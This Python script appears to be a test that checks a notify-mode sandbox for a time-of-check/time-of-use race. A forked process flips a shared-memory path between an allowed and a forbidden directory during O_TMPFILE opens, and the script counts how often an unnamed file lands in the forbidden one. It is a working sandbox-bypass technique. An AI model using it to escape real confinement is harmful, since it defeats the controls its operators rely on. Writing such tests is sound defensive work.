"""Threat: an O_TMPFILE open was answered "continue" in notify mode, so the
kernel read the directory's path again: another process sharing the page
flips it between the workspace (allowed) and a directory where creating
is denied, and the unnamed file lands there (a later linkat through
/proc/self/fd would only need that directory's link decision).

Usage: race_tmpfile.py ALLOWED_DIR FORBIDDEN_DIR ROUNDS
Prints "opened: N" (files made in ALLOWED_DIR) and "won: N" (in
FORBIDDEN_DIR; each is closed at once, so it is gone).
"""

import ctypes
import mmap
import os
import signal
import sys

DONE = 42
O_TMPFILE = 0o20000000 | os.O_DIRECTORY
libc = ctypes.CDLL(None, use_errno=True)
libc.open.restype = ctypes.c_int
libc.open.argtypes = (ctypes.c_void_p, ctypes.c_int, ctypes.c_int)

allowed_dir, forbidden_dir, rounds = sys.argv[1], sys.argv[2], int(sys.argv[3])
allowed = os.fsencode(os.path.abspath(allowed_dir)) + b"\0"
other = os.fsencode(os.path.abspath(forbidden_dir)) + b"\0"
size = max(len(allowed), len(other))
states = [allowed.ljust(size, b"\0"), other.ljust(size, b"\0")]
page = mmap.mmap(-1, mmap.PAGESIZE)  # MAP_SHARED: the flipper (a fork) writes it
page[:size] = states[0]
buf = ctypes.addressof(ctypes.c_char.from_buffer(page))

ready_r, ready_w = os.pipe()
flipper = os.fork()
if flipper == 0:
    os.write(ready_w, b"x")
    i = 0
    while True:
        page[:size] = states[i & 1]
        i += 1
os.read(ready_r, 1)
opened = won = 0
for _ in range(rounds):
    seen = page[:size]  # only while the flipper runs
    while page[:size] == seen:
        pass
    fd = libc.open(buf, O_TMPFILE | os.O_WRONLY | os.O_CLOEXEC, 0o600)
    if fd < 0:
        continue
    where = os.path.dirname(os.readlink(f"/proc/self/fd/{fd}"))
    os.close(fd)
    if where == os.path.abspath(forbidden_dir):
        won += 1
    else:
        opened += 1
os.kill(flipper, signal.SIGKILL)
os.waitpid(flipper, 0)
print(f"opened: {opened}", flush=True)
print(f"won: {won}", flush=True)
sys.exit(DONE)
